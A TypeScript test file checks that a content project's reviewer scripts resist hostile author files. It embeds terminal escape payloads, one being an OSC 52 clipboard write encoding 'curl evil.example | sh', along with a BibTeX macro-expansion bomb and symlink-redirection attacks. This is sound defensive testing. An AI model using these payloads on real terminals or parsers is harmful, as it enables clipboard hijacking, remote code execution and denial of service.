/**
 * The tools a reviewer runs on an author's pull request, beside the checker: `npm run
 * impor-sumber`, `rapikan`, `new` and `studio:gambar`. Each is handed files the author controls,
 * so none may obey an escape sequence from them, wait on or run out of memory for them, or write
 * through a symbolic link among them (red-team round 3, L1 and L2).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BATAS_CROSSREF, BATAS_MAKRO, bacaPustaka, keSumber } from '../src/lib/sitasi/impor.ts';
import { simpanGambar } from '../scripts/studio-gambar.ts';
import { ROOT, salinan } from './helpers.ts';

const NODE = join(ROOT, 'node_modules/.bin/node');
const ENTRI = 'praktik/layanan-contoh.mdx';

/** A folder outside the content tree, standing for any file on the reviewer's machine. */
const luar = () => mkdtempSync(join(tmpdir(), 'pustaka-luar-'));

/** Run one of scripts/ in a content tree, as `npm run <x>` would from the project root. */
function jalankan(skrip: string, dir: string, ...args: string[]) {
  return spawnSync(NODE, [join(ROOT, 'scripts', skrip), ...args], { cwd: dir, encoding: 'utf8', timeout: 30_000, env: { ...process.env, CONTENT_DIR: dir, FORCE_COLOR: '0' } });
}

/** Control characters a terminal acts on (ESC, BEL, CR, …); line breaks end this tool's own lines. */
const KENDALI = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** `a0` is ten characters, and each next macro doubles the one before: `a24` would be 167 million. */
const bomMakro = (n: number) => ['@string{a0 = "xxxxxxxxxx"}', ...Array.from({ length: n }, (_, i) => `@string{a${i + 1} = a${i} # a${i}}`), `@misc{k1, title = a${n}, url = {https://contoh.go.id/a}}`].join('\n');

describe('npm run impor-sumber pada pustaka dari penulis', () => {
  it('menampilkan urutan escape dan baris baru dari butir pustaka sebagai teks, tidak menjalankannya', () => {
    const t = salinan();
    const id = 'x\u001b[2J\u001b[H\u001b]8;;https://evil.example/\u0007Klik\u001b]8;;\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u009b31m\n✓ 12 sumber ditambahkan. npm run check: 0 galat';
    const json = JSON.stringify([
      { id, title: 't' },
      { id: 'dua', type: 'report', title: 'Judul\u001b]52;c;eA==\u0007 dua', URL: 'https://bps.go.id/l' },
      { id: 'tiga', title: 'Tiga', URL: 'https://bit.ly/\u001b[2Jabc' },
      { id: 'empat', title: 'Empat', URL: 'https://bps.go.id/e' },
    ]);
    writeFileSync(join(t.dir, 'p.json'), json);
    const r = jalankan('impor-sumber.ts', t.dir, ENTRI, 'p.json');
    const baris = r.stdout.trimEnd().split('\n');
    expect(r.stderr).toBe('');
    for (const b of baris) expect(b).not.toMatch(KENDALI);
    // One line per item, then the tool's own summary: no line of the author's.
    expect(baris.map((b) => b.slice(0, 2))).toEqual(['+ ', '- ', '- ', '- ', '1 ']);
    expect(baris[1]).toContain('- dilewati: x\\u{1B}[2J\\u{1B}[H\\u{1B}]8;;https://evil.example/\\u{7}Klik');
    expect(baris[1]).toContain('\\u{9B}31m\\n✓ 12 sumber');
    expect(baris[2]).toMatch(/^- dilewati: dua: judul memuat karakter kendali U\+001B/);
  });

  // The refusal message proves the macro was refused before it was built; the time limit only
  // bounds a hang (2^24 characters), not a speed target, which belongs to the benchmark.
  it('menolak makro @string yang berlipat ganda sebelum citation-js membangunnya, dengan nama dan ukurannya', () => {
    expect(() => bacaPustaka(bomMakro(24), 'bom.bib')).toThrow('makro @string "a10" (baris 11, kolom 9) menjadi 10.240 karakter, di atas batas 10.000');
    // Hidden in a "%" line outside an entry, which BibTeX and citation-js still read as an entry.
    expect(() => bacaPustaka(bomMakro(24).replace('@string{a5', '% @string{a5'), 'bom.bib')).toThrow(/makro @string "a10"/);
  }, 20_000);

  it('menghitung panjang makro dari bagian-bagiannya: makro lain, #, teks "…" dan {…}, dan menolak pemakaian berulang', () => {
    const makro = (isi: string) => `@STRING( pj = ${isi} )\n@misc{k, title = pj, url = {https://contoh.go.id/}}`;
    const setengah = 'y'.repeat(BATAS_MAKRO / 2 - 4);
    // "a{b}c" is five characters as citation-js keeps it, braces included; {\}} is two.
    const pas = makro(`"a{b}c" # {\\}} # "${setengah}" # {${setengah}} # 1`);
    expect(() => bacaPustaka(pas, 'p.bib')).not.toThrow();
    expect(() => bacaPustaka(makro(`"a{b}c" # {\\}} # "${setengah}x" # {${setengah}} # 1`), 'p.bib')).toThrow(/makro @string "pj" .* menjadi 10\.001 karakter/);
    // Each macro under the limit, but used so often that the file would expand to gigabytes.
    const pakai = `@string{m = "${'m'.repeat(9000)}"}\n@misc{k, title = ${Array(200).fill('m').join(' # ')}, url = {https://contoh.go.id/}}`;
    expect(() => bacaPustaka(pakai, 'p.bib')).toThrow(/makro @string dipakai berulang kali: sampai baris 2, .* di atas batas 1\.000\.000/);
    // A chain of crossrefs is read again for every entry in it.
    const rantai = (n: number) => ['@misc{c0, title = {t}, url = {https://contoh.go.id/}}', ...Array.from({ length: n }, (_, i) => `@misc{c${i + 1}, crossref = {c${i}}}`)].join('\n');
    expect(bacaPustaka(rantai(BATAS_CROSSREF), 'p.bib')).toHaveLength(BATAS_CROSSREF + 1);
    expect(() => bacaPustaka(rantai(BATAS_CROSSREF + 1), 'p.bib')).toThrow(`lebih dari ${BATAS_CROSSREF} entri memakai "crossref"`);
  });

  it('menolak berkas pustaka di atas 1 MB tanpa membacanya', () => {
    expect(() => bacaPustaka(`@misc{k, title = {${'x'.repeat(1024 * 1024)}}}`, 'besar.bib')).toThrow(/di atas batas 1\.048\.576 byte \(1 MB\)/);
    expect(() => bacaPustaka(`[${'1,'.repeat(600_000)}1]`, 'besar.json')).toThrow(/1 MB/);
  });

  it('tetap mengimpor .bib biasa: makro bawaan dan sendiri, komentar JabRef, @preamble, kurung ( )', () => {
    const bib = `% This file was created with JabRef 5.15.
% Encoding: UTF-8

@String{jkb = "Jurnal Kebijakan"}
@Preamble{ "\\newcommand{\\noopsort}[1]{} " # "" }
@Article(sari2023,
  title   = {Konvergensi {Stunting}},
  journal = jkb # { Publik},
  year    = 2023, month = may,
  url     = {https://jurnal.ugm.ac.id/x/1},
)

@Comment{jabref-meta: databaseType:bibtex;}
`;
    expect(keSumber(bacaPustaka(bib, 'z.bib'), new Set(), '2026-12-07')).toEqual({
      sumber: [{ kunci: 'sari2023', judul: 'Konvergensi Stunting', url: 'https://jurnal.ugm.ac.id/x/1', jenis: 'jurnal', penerbit: 'Jurnal Kebijakan Publik', terbit: '2023-05', diakses: '2026-12-07' }],
      dilewati: [],
    });
  });

  it('tidak membaca atau menulis lewat tautan simbolik, dan tidak membaca pipa atau perangkat', () => {
    const t = salinan();
    const l = luar();
    const korban = join(l, 'korban.mdx');
    const asli = '---\nsumber:\n---\nrahasia\n';
    writeFileSync(korban, asli);
    writeFileSync(join(t.dir, 'p.bib'), '@misc{k, title = {T}, url = {https://contoh.go.id/}}');
    symlinkSync(korban, join(t.dir, 'praktik/tautan.mdx'));
    let r = jalankan('impor-sumber.ts', t.dir, 'praktik/tautan.mdx', 'p.bib');
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^praktik\/tautan\.mdx: berkas ini tautan simbolik/);
    expect(readFileSync(korban, 'utf8')).toBe(asli);
    // A library that is a link to a device would be read forever.
    symlinkSync('/dev/zero', join(t.dir, 'nol.bib'));
    r = jalankan('impor-sumber.ts', t.dir, ENTRI, 'nol.bib');
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^nol\.bib: berkas ini tautan simbolik/);
    r = jalankan('impor-sumber.ts', t.dir, ENTRI, '/dev/zero');
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('bukan berkas biasa');
    // And an ordinary import still writes the entry.
    r = jalankan('impor-sumber.ts', t.dir, ENTRI, 'p.bib');
    expect(r.stdout).toContain('1 sumber ditambahkan');
    expect(readFileSync(join(t.dir, ENTRI), 'utf8')).toContain('  - kunci: k\n');
  });
});

describe('npm run rapikan memakai daftar berkas pemeriksa', () => {
  it('melaporkan tautan simbolik seperti npm run check dan tidak menulis ke tujuannya', () => {
    const t = salinan();
    const l = luar();
    const korban = join(l, 'blog.md');
    const asli = '---\ntitle: "Hello"\nlayout: post\n---\nIsi\n';
    writeFileSync(korban, asli);
    symlinkSync(korban, join(t.dir, 'praktik/blog.mdx'));
    const r = jalankan('rapikan.ts', t.dir);
    expect(readFileSync(korban, 'utf8')).toBe(asli);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`praktik/blog.mdx:1:1  (berkas)  tautan simbolik ke luar repositori ("${korban}") tidak diizinkan`);
    expect(r.stdout).not.toContain('Dirapikan');
  });

  it.skipIf(process.platform === 'win32')('melewati pipa bernama alih-alih menunggunya selamanya', () => {
    const t = salinan();
    expect(spawnSync('mkfifo', [join(t.dir, 'model/pipa.mdx')]).status).toBe(0);
    const r = jalankan('rapikan.ts', t.dir, '--periksa');
    expect(r.error).toBeUndefined();
    expect(r.stderr).toContain('model/pipa.mdx:1:1  (berkas)  "pipa.mdx" bukan berkas biasa');
  });
});

describe('npm run new tidak menulis lewat tautan', () => {
  it('menolak tautan simbolik yang menggantung di nama berkas barunya, dan tidak membuat tujuannya', () => {
    const t = salinan();
    const tujuan = join(luar(), 'dibuat.txt');
    symlinkSync(tujuan, join(t.dir, 'praktik/sistem-antrean.mdx'));
    const r = jalankan('new.ts', t.dir, 'praktik', 'Sistem Antrean');
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`praktik/sistem-antrean.mdx sudah ada sebagai tautan simbolik (ke "${tujuan}")`);
    expect(existsSync(tujuan)).toBe(false);
  });

  it('menolak folder koleksi yang berupa tautan simbolik', () => {
    const t = salinan();
    const l = luar();
    spawnSync('rm', ['-rf', join(t.dir, 'model')]);
    symlinkSync(l, join(t.dir, 'model'));
    const r = jalankan('new.ts', t.dir, 'model', 'Model Baru');
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^folder model adalah tautan simbolik/);
    expect(existsSync(join(l, 'model-baru.mdx'))).toBe(false);
  });
});

describe('npm run studio:gambar', () => {
  it('mengganti tautan di nama gambar, bukan menulis ke tujuannya; folder yang berupa tautan ditolak', () => {
    const root = mkdtempSync(join(tmpdir(), 'pustaka-gambar-'));
    const folder = join(root, 'content/panduan/gambar');
    mkdirSync(folder, { recursive: true });
    const korban = join(luar(), 'korban.jpg');
    writeFileSync(korban, 'asli');
    symlinkSync(korban, join(folder, 'studio-daftar.jpg'));
    simpanGambar(root, folder, 'studio-daftar.jpg', new Uint8Array([0xff, 0xd8, 0xff]));
    expect(readFileSync(korban, 'utf8')).toBe('asli');
    expect(lstatSync(join(folder, 'studio-daftar.jpg')).isFile()).toBe(true);
    expect([...readFileSync(join(folder, 'studio-daftar.jpg'))]).toEqual([0xff, 0xd8, 0xff]);
    // A missing folder is made; a folder that is a link is refused.
    const baru = mkdtempSync(join(tmpdir(), 'pustaka-gambar-'));
    simpanGambar(baru, join(baru, 'content/panduan/gambar'), 'a.jpg', new Uint8Array([1]));
    expect(readFileSync(join(baru, 'content/panduan/gambar/a.jpg'))).toHaveLength(1);
    const l = luar();
    mkdirSync(join(baru, 'lain'));
    symlinkSync(l, join(baru, 'lain/gambar'));
    expect(() => simpanGambar(baru, join(baru, 'lain/gambar'), 'b.jpg', new Uint8Array([1]))).toThrow(/lain\/gambar adalah tautan simbolik/);
    expect(existsSync(join(l, 'b.jpg'))).toBe(false);
  });
});
